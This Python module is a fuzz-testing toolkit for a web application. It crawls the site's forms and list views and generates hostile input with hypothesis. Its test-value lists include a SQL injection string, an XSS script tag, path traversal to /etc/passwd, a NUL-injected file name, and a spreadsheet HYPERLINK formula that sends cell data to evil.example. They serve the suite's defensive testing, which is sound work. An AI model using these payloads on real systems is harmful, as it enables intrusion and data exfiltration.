"""The fuzz suite's tools: finding every form and list of the site, generating hostile
input for them with hypothesis, and sending it as a browser (or an attacker) would.

Forms are found by crawling each person's pages (links from the home page and from
every list), so a new form is fuzzed without being named here; lists come from the
URL map (every ModelView's `list` endpoint).
"""

import uuid
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import parse_qsl, quote_plus, urlencode, urlsplit

from hypothesis import strategies as st
from sqlalchemy import inspect

# --- hostile values --------------------------------------------------------------

EDGE_TEXT = (
    "", " ", "\x00", "a\x00b", "\ud800", "x\udfffy", "\ufffd", "\u202e", "\t", "\r\n",
    "0", "-1", "-5", "1.5", "1e309", "NaN", "2147483647", "2147483648", "-2147483649",
    "9223372036854775808", "99999999999999999999", "0x10", "١٢٣",
    "0001-01-01", "9999-12-31", "2026-02-30", "2026-01-01 25:61:00", "99999-01-01",
    "y", "n", "on", "true", "asc", "desc", "__None", "None", "null", "[]", "{}",
    "'", "' OR '1'='1", "\"", "<script>alert(1)</script>", "../../etc/passwd",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")", "author.email", "body",
)

_any_character = st.characters(exclude_categories=())  # surrogates and NUL included
hostile_text = st.one_of(
    st.sampled_from(EDGE_TEXT),
    st.text(_any_character, max_size=30),
    st.integers(-(2**70), 2**70).map(str),
    st.integers(150, 70_000).map(lambda n: "x" * n),  # longer than any field allows
)


def to_bytes(text):
    """What a client can put on the wire for `text` (lone surrogates as raw bytes)."""
    return text.encode("utf-8", "surrogatepass")


def query_string(pairs):
    return urlencode([(to_bytes(k), to_bytes(v)) for k, v in pairs], quote_via=quote_plus)


def with_query(path, pairs):
    return f"{path}?{query_string(pairs)}" if pairs else path


def multipart(pairs, files):
    """A multipart/form-data body (any bytes in names and values) and its content type."""
    boundary = uuid.uuid4().hex
    chunks = []
    for name, value in pairs:
        chunks.append(b"--" + boundary.encode() + b"\r\n"
                      b'Content-Disposition: form-data; name="' + to_bytes(name) + b'"\r\n\r\n'
                      + to_bytes(value) + b"\r\n")
    for name, filename, content in files:
        chunks.append(b"--" + boundary.encode() + b"\r\n"
                      b'Content-Disposition: form-data; name="' + to_bytes(name)
                      + b'"; filename="' + to_bytes(filename).replace(b'"', b"%22") + b'"\r\n'
                      b"Content-Type: application/octet-stream\r\n\r\n" + content + b"\r\n")
    chunks.append(b"--" + boundary.encode() + b"--\r\n")
    return b"".join(chunks), f"multipart/form-data; boundary={boundary}"


# --- pages, forms and links ---------------------------------------------------------

@dataclass
class Field:
    name: str
    kind: str  # text, hidden, select, radio, checkbox, file, password, textarea…
    value: str = ""
    options: list = field(default_factory=list)
    multiple: bool = False


@dataclass
class Form:
    action: str  # path (and query) the form is sent to
    method: str
    multipart: bool
    fields: list = field(default_factory=list)

    def field(self, name):
        return next((f for f in self.fields if f.name == name), None)


class _PageParser(HTMLParser):
    def __init__(self, page_path):
        super().__init__()
        self.page_path = page_path
        self.forms, self.links = [], []
        self._form = self._select = None

    def handle_starttag(self, tag, attrs):
        attrs = {k: v or "" for k, v in attrs}
        if tag == "a" and attrs.get("href"):
            self.links.append(attrs["href"])
        elif tag == "form":
            self._form = Form(attrs.get("action") or self.page_path,
                              (attrs.get("method") or "get").upper(),
                              "multipart" in attrs.get("enctype", ""))
            self.forms.append(self._form)
        elif self._form is None or not attrs.get("name") and tag != "option":
            return
        elif tag == "input":
            kind = attrs.get("type", "text").lower()
            existing = self._form.field(attrs["name"])
            if kind in ("radio", "checkbox") and existing is not None:
                existing.options.append(attrs.get("value", "on"))
            elif kind not in ("submit", "button", "image", "reset"):
                options = [attrs.get("value", "on")] if kind in ("radio", "checkbox") else []
                self._form.fields.append(Field(attrs["name"], kind, attrs.get("value", ""),
                                               options))
        elif tag == "textarea":
            self._form.fields.append(Field(attrs["name"], "textarea"))
        elif tag == "select":
            self._select = Field(attrs["name"], "select", multiple="multiple" in attrs)
            self._form.fields.append(self._select)
        elif tag == "option" and self._select is not None:
            self._select.options.append(attrs.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def parse_page(path, html):
    parser = _PageParser(path)
    parser.feed(html)
    return parser.forms, parser.links


def local_path(href, base_path):
    """The site path of a link or form action, or None for another site / JavaScript."""
    parts = urlsplit(href)
    if parts.scheme not in ("", "http", "https") or (parts.netloc and parts.netloc != "localhost"):
        return None
    path = parts.path or base_path
    if not path.startswith("/"):
        return None
    return path + (f"?{parts.query}" if parts.query else "")


# --- what to send -------------------------------------------------------------------

SAMPLE_FILES = {
    "png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 32,
    "pdf": b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n",
    "zip": b"PK\x03\x04" + b"\x00" * 26,
    "empty": b"",
    "text": b"hello",
}
file_names = st.one_of(
    st.sampled_from(["foto.png", "surat.pdf", "a.docx", "x" * 300 + ".pdf", ".pdf",
                     "../../etc/passwd", "nama\x00.pdf", "\ud800.png", "tanpa-ekstensi"]),
    st.text(_any_character, max_size=20),
)
uploads = st.lists(st.tuples(file_names, st.sampled_from(sorted(SAMPLE_FILES))), max_size=2)


# What a person would type, by field: with every other field plausible, one hostile
# value reaches as far as the application lets it (a NUL only bites at the INSERT).
PLAUSIBLE = {
    "email": "uji.acak@example.test", "username": "uji.acak@example.test",
    "password": "Kaltim-rahasia-2026", "conf_password": "Kaltim-rahasia-2026",
    "confirm": "Kaltim-rahasia-2026", "current_password": "Kaltim-rahasia-2026",
    "phone": "0812 3456 7890", "first": "2026-01-01", "last": "2026-01-31",
    "contact_email": "opd@example.test", "short_name": "UJI",
}


def _plausible(spec):
    if spec.options:
        chosen = [o for o in spec.options if o not in ("", "__None")] or spec.options
        return st.sampled_from(chosen)
    if spec.value:
        return st.just(spec.value)
    name = spec.name.rpartition("-")[2]  # prefixed move forms: "reject-reason"
    return st.just(PLAUSIBLE.get(name, "Teks uji yang wajar"))


def _first_plausible(spec):
    if spec.options:
        return next((o for o in spec.options if o not in ("", "__None")), spec.options[0])
    return spec.value or PLAUSIBLE.get(spec.name.rpartition("-")[2], "Teks uji yang wajar")


# One value per kind of trouble, sent in each field in turn (the rest plausible).
EDGE_PER_FIELD = ("a\x00b", "99999999999999999999", "x" * 70_000)


def edge_submissions(form):
    """Deterministic sendings of `form`: each field in turn holds each EDGE_PER_FIELD
    value while every other field holds what a person would type."""
    fields = [f for f in form.fields if f.kind != "file"]
    base = [(f.name, _first_plausible(f)) for f in fields]
    for index in range(len(fields)):
        for value in EDGE_PER_FIELD:
            pairs = [(name, value if i == index else plain) for i, (name, plain) in
                     enumerate(base)]
            yield pairs, []
    for spec in form.fields:
        if spec.kind == "file":
            yield base, [(spec.name, "x" * 300 + ".pdf", SAMPLE_FILES["pdf"]),
                         (spec.name, "nama\x00.png", SAMPLE_FILES["png"])]


@st.composite
def submissions(draw, form):
    """(pairs, files) for one sending of `form`: plausible values, except one or two
    fields that are omitted, repeated or hostile; sometimes an unexpected extra field."""
    fields = [f for f in form.fields if f.kind != "file"]
    hostile = draw(st.sets(st.sampled_from(range(len(fields))), max_size=2)) if fields else set()
    pairs, files = [], []
    for index, spec in enumerate(fields):
        if index not in hostile:
            pairs.append((spec.name, draw(_plausible(spec))))
            continue
        for _ in range(draw(st.sampled_from([0, 1, 1, 1, 2]))):
            pairs.append((spec.name, draw(hostile_text)))
    for spec in form.fields:
        if spec.kind == "file":
            files += [(spec.name, name, SAMPLE_FILES[kind]) for name, kind in draw(uploads)]
    pairs += draw(st.lists(st.tuples(hostile_text, hostile_text), max_size=1))
    return pairs, files


def edge_list_arguments(view):
    """Deterministic hostile list arguments for `view` (the probe's findings included)."""
    own = view.__class__.__name__
    columns = list(view.search_columns)
    yield [(f"_flt_9_{columns[0]}", "x")] if columns else []
    for column in columns:
        for value in ("a\x00b", "abc", "99999999999999999999"):
            yield [(f"_flt_0_{column}", value)]
    for value in ("abc", "-1", "99999999999999999999"):
        yield [(f"psize_{own}", value)]
        yield [(f"page_{own}", value)]
    for column in ("'", "bogus", "author.email", "author.full_name", "body", "id"):
        yield [(f"_oc_{own}", column), (f"_od_{own}", "asc")]


def list_arguments(view_name, columns):
    """Hostile search, sort and paging arguments for the list of `view_name`."""
    column = st.one_of(st.sampled_from(sorted(columns)), hostile_text)
    views = st.one_of(st.just(view_name), hostile_text)
    name = st.one_of(
        st.builds(lambda n, c: f"_flt_{n}_{c}", st.integers(0, 9), column),
        st.builds(lambda kind, v: f"{kind}{v}",
                  st.sampled_from(["_oc_", "_od_", "page_", "psize_"]), views),
        st.just("status"),
        hostile_text,
    )
    value = st.one_of(column, hostile_text, st.sampled_from(["asc", "desc", "y", "all"]),
                      st.integers(-(2**70), 2**70).map(str),
                      st.dates().map(str), st.datetimes().map(lambda d: d.isoformat(" ")))
    return st.lists(st.tuples(name, value), max_size=6)


def form_fields_of(action):
    """The (name, value) pairs already in a form's action address."""
    return parse_qsl(urlsplit(action).query, keep_blank_values=True)


def model_columns(model):
    """Every column of `model` and of each of its relations (`relation.column`): what
    a list argument could name."""
    mapper = inspect(model)
    names = {column.key for column in mapper.column_attrs}
    for relation in mapper.relationships:
        names.add(relation.key)
        names.update(f"{relation.key}.{column.key}" for column in relation.mapper.column_attrs)
    return names
